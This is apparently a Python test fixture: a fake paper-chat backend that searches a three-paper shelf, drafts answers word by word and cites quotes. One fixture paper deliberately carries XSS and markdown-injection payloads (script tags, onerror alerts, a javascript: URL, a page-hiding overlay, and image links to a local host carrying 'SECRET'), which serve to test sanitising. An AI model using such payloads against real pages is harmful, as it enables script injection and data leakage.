"""A chat that behaves like the real one over a few papers: it searches, drafts word by word and verifies."""

from __future__ import annotations

import re
import threading
import time
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from typing import Any

from rag.answer import Answer
from rag.errors import ModelError
from rag.events import Condensed, Drafted, Event, Retrieved, Verified
from rag.types import (
    Asked,
    Citation,
    Condition,
    Facet,
    Found,
    Paper,
    Passages,
    Query,
    Ranked,
    Sentence,
    Status,
    Verdict,
)
from rag.where import Where, where_from

TRACER = Paper(
    id="tracer",
    title="AgenTracer: Who Is Inducing Failure in the LLM Agentic Systems?",
    abstract=(
        r"Pinpointing the step responsible for an error defines the task of \textbf{failure attribution}. "
        r"Reasoning LLMs remain inadequate, with accuracy below $10\\%$. "
        r"AgenTracer-8B outperforms giant LLMs by up to $18.18\\%$ on {Who\&When}. "
        r"It costs $5 and $10 per run for $a_i * b_i$ agents."
    ),
    authors=("Guibin Zhang", "Junhao Wang", "Junjie Chen", "Wangchunshu Zhou"),
    venue="ICLR 2026",
    decision="Poster",
    area="agents",
    year=2026,
    url="https://openreview.net/forum?id=tracer",
)
SCREEN = Paper(
    id="screen",
    title="NeuralOS: Towards Simulating Operating Systems via Neural Generative Models",
    abstract=(
        "We introduce **NeuralOS**, which simulates graphical interfaces of operating systems. "
        + "It combines a recurrent network with a diffusion-based renderer. " * 12
        + "The model is trained on Ubuntu XFCE recordings."
    ),
    authors=("Luke Rivard", "Sun Sun"),
    venue="ICLR 2026",
    decision="Poster",
    area="systems",
    year=2025,
    url="https://openreview.net/forum?id=screen",
)
HOSTILE = Paper(
    id="hostile",
    title='<img src="http://127.0.0.1:9999/title.png"> Botnets ![t](http://127.0.0.1:9999/t.png)',
    abstract=(
        "Botnets <style>body{display:none}</style> spread <script>document.title='owned'</script> quickly "
        '<div style="position:fixed;inset:0;background:url(http://127.0.0.1:9999/css)">over</div> networks '
        "![x](http://127.0.0.1:9999/?q=SECRET) [![a](http://127.0.0.1:9999/a)](http://127.0.0.1:9999/b) "
        r"${alert(1)}$ {{value}} $\text{<img src=x onerror=alert(1)>}$ <img src=x onerror=alert(2)>."
    ),
    authors=("<b>Mallory</b>",),
    area="<i>malice</i>",
    year=2024,
    url="javascript:alert(1)",
)
SHELF = (TRACER, SCREEN, HOSTILE)

_COMMON = re.compile("an?|and|by|does|do|how|is|its?|me|of|on|paper|show|tell|the|what|which|who|with")


class ShelfChat:
    """Keeps no conversation; one of it may serve many tabs.

    A question with a word of `failures` fails after the first words of the draft; one with "break off" ends
    without an answer. While `held` is set, drafts stop at that point.
    """

    def __init__(self, papers: Sequence[Paper] = SHELF, *, seconds_per_word: float = 0.0) -> None:
        self.papers = {paper.id: paper for paper in papers}
        self.seconds_per_word = seconds_per_word
        self.failures: dict[str, Exception] = {
            "overload": ModelError("The model is overloaded.", advice="Ask again in a minute."),
            "bug": KeyError("secret"),
        }
        self.unreadable: set[str] = set()  # papers whose look-up fails
        self.canned: dict[str, Answer] = {}  # questions that are answered so, without a search
        self.held = threading.Event()
        self.asked: list[tuple[str, tuple[str, ...]]] = []  # each question with the questions before it

    def stream(self, question: str, *, where: Where | None = None, turns: Sequence[Answer] = ()) -> Iterator[Event]:
        """Condense, search, draft, verify."""
        self.asked.append((question, tuple(turn.question for turn in turns)))
        if question in self.canned:
            yield Verified(self.canned[question])
            return
        text = self._standing_alone(question, turns)
        conditions = where_from(where)
        yield Condensed(Query(question, text, Asked(Facet.ANYTHING), conditions))
        answer = self._answer(question, text, turns, self._meeting(conditions))
        texts = tuple(text for condition in conditions for text in condition.texts())
        answer = replace(answer, llm="shelf", embedding="none", where=texts)
        yield Retrieved(Passages(tuple(Found(self.papers[r.paper_id], r.score, 0, 0) for r in answer.retrieved)))
        if answer.status == Status.ANSWERED:
            yield from self._drafts(question, answer.text)
        if "break off" not in question:
            yield Verified(answer)

    def counts(self, where: Where | None = None) -> dict[str, dict[str, int]]:
        """Each value with its papers, under the conditions on other fields."""
        counts: dict[str, dict[str, int]] = {}
        for name in ("area", "venue", "decision", "year"):
            others = [condition for condition in where_from(where) if condition.field != name]
            values = Counter(str(getattr(paper, name)) for paper in self._meeting(others) if getattr(paper, name))
            counts[name] = dict(values.most_common())
        return counts

    def _meeting(self, where: Sequence[Condition]) -> list[Paper]:
        return [paper for paper in self.papers.values() if all(_meets(paper, condition) for condition in where)]

    def paper(self, paper_id: str) -> Paper | None:
        """The paper with this id."""
        if paper_id in self.unreadable:
            raise OSError("The disk is gone.")
        return self.papers.get(paper_id)

    def describe(self) -> Mapping[str, Any]:
        """The shelf."""
        return {"llm": "shelf", "embedding": "none", "index": {"papers": len(self.papers)}}

    def _drafts(self, question: str, text: str) -> Iterator[Event]:
        words = text.split(" ")
        for count in range(1, len(words) + 1):
            yield Drafted(" ".join(words[:count]))
            time.sleep(self.seconds_per_word)
            for word, failure in self.failures.items():
                if count == 4 and word in question:
                    raise failure
            while count == 4 and self.held.is_set():
                time.sleep(0.02)

    @staticmethod
    def _standing_alone(question: str, turns: Sequence[Answer]) -> str:
        follows = re.match(r"and\b", question, re.IGNORECASE)
        return f"{question} ({turns[-1].citations[0].title})" if follows and turns and turns[-1].citations else question

    def _answer(self, question: str, text: str, turns: Sequence[Answer], papers: Sequence[Paper]) -> Answer:
        if question.strip().lower() in ("hi", "hello", "thanks!"):
            return Answer(question, text, Status.NO_ANSWER, "", "Hello! Ask me something about the papers.")
        if not question.strip():
            return Answer(question, text, Status.NO_ANSWER, "The question is empty.", "")
        terms = [word for word in re.findall(r"\w+", text.lower()) if not _COMMON.fullmatch(word)]
        ranked = sorted(papers, key=lambda paper: -_hits(paper, terms))
        retrieved = tuple(Ranked(paper.id, paper.title, float(_hits(paper, terms))) for paper in ranked)
        if not papers:
            return Answer(question, text, Status.NO_ANSWER, "No paper meets the filter.", "")
        if not terms or not any(paper.score for paper in retrieved):
            reason = "None of the papers says anything about this."
            return Answer(question, text, Status.NO_ANSWER, reason, "", retrieved=retrieved, nearest=retrieved[:2])
        return self._cited(Answer(question, text, Status.ANSWERED, "", "", retrieved=retrieved), ranked[0], turns)

    def _cited(self, answer: Answer, paper: Paper, turns: Sequence[Answer]) -> Answer:
        known = {citation.paper_id: citation.number for turn in turns for citation in turn.citations}
        number = known.get(paper.id, max(known.values(), default=0) + 1)
        parts = [match.span() for match in re.finditer(r"\S.*?[.](?=\s|$)", paper.abstract)][:3:2]
        quotes = [paper.abstract[start:end] for start, end in parts]
        start, end = parts[-1]
        return replace(
            answer,
            text=" ".join(f"{quote} [{number}]" for quote in quotes),
            sentences=tuple(Sentence(quote, (number,), Verdict.QUOTED) for quote in quotes),
            citations=(
                Citation(
                    number,
                    paper.id,
                    paper.title,
                    paper.authors,
                    paper.url,
                    quotes[-1],
                    start,
                    end,
                    Verdict.QUOTED,
                ),
            ),
        )


def _meets(paper: Paper, condition: Condition) -> bool:
    if condition.field == "author":
        return any(value in author.split() for value in condition.values for author in paper.authors)
    held, value = str(getattr(paper, condition.field)), condition.values[0]
    return {"=": held in condition.values, ">=": held >= value, "<=": held <= value}[condition.operator]


def _hits(paper: Paper, terms: Sequence[str]) -> int:
    text = f"{paper.title} {paper.abstract}".lower()
    return sum(term in text for term in terms)
